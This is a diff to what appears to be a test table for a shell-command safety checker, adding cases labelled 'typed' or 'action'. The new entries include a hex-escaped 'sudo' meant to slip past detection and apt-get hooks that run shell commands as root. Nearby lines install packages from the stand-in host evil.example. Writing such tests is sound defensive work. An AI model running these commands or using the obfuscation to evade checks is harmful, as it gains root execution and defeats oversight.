@@ -237,6 +237,13 @@ LEFTOVERS = [
     ("sysupgrade /tmp/fw.bin -b /tmp/x.tar.gz", "typed"),
     ("sysupgrade -b /tmp/x.tar.gz /tmp/fw.bin", "typed"),
     ("sysupgrade -r /tmp/x.tar.gz", "typed"),
+    # apt's hooks set with -o run a shell command as root, whoever spells sudo how
+    (
+        "$'\\x73\\x75\\x64\\x6f' apt-get -o Dpkg::Pre-Invoke::=\"/bin/sh -c id\" install tree",
+        "typed",
+    ),
+    ("apt-get -o APT::Update::Post-Invoke-Success::='touch /tmp/x' update", "typed"),
+    ("apt-get -o Dpkg::Options::=--force-confold upgrade", "action"),
     # a reserved example domain of two labels is a host on the Internet
     ("cpanm https://evil.example/x.tar.gz", "typed"),
     ("zzpkg install https://evil.example/x.tgz", "typed"),
